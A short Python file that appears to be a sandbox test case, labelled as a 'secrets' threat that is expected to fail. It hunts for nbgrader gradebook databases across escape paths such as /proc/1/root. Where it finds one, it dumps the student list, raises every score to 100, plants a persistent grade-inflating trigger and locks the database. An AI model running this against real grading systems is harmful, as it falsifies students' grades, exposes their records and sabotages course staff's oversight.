"""Open the gradebook at every place where nbgrader keeps one, raise one's score and leave a trigger behind.

threat: secrets
expect: nothing
"""
# %% first
import glob
import os
import sqlite3
from itertools import product

up = ["", "../", "../../", "../../../", "/", "/srv/nbgrader/", "/home/", f"/proc/{os.getppid()}/cwd/", *glob.glob("/proc/1/root*/")]
for folder, name in product(up, ("gradebook.db", "course/gradebook.db", ".autograder/gradebook.db")):
    try:
        book = sqlite3.connect(f"file:{folder}{name}?mode=rw", uri=True, timeout=0.1)
        print(folder, book.execute("select * from student").fetchall())
        book.execute("update grade set manual_score = 100, extra_credit = 100")
        book.execute("create trigger t after update on grade begin update grade set auto_score = max_score; end")
        book.execute("begin exclusive")
    except sqlite3.Error as error:
        print(folder, error)
